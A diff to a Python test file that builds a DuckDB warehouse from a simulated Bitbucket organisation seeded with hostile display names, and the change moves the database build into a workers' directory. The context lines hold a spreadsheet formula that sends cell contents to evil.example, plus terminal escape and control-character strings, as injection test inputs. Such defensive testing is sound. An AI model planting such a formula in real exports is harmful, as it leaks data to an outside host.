@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 
 from bitbucket_simulator import Simulator, SimulatorServer, load_organisation
 from tests.support import CLI
-from tests.support.warehouses import run_pipeline
+from tests.support.warehouses import built_in_the_workers_dir, run_pipeline
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 ESCAPES = "Ana\x1b[31m\u202eEvil\x07"
@@ -24,10 +24,10 @@ def hostile_warehouse(tmp_path_factory) -> str:
     users["zoe"].display_name = FORMULA
     users["ana"].display_name = ESCAPES
     org.workspaces["tiny-co"].groups["leads"].name = "Leads\x01\x02"
-    db = str(tmp_path_factory.mktemp("hostile") / "w.duckdb")
-    with SimulatorServer(Simulator(org)) as server:
+    keep = tmp_path_factory.mktemp("hostile") / "w.duckdb"
+    with SimulatorServer(Simulator(org)) as server, built_in_the_workers_dir(tmp_path_factory, keep) as db:
         assert run_pipeline(server.url, org.users[org.operator_uuid].email, db).success
-    return db
+    return str(keep)
 
 
 def cli(db: str, *args: str) -> subprocess.CompletedProcess:
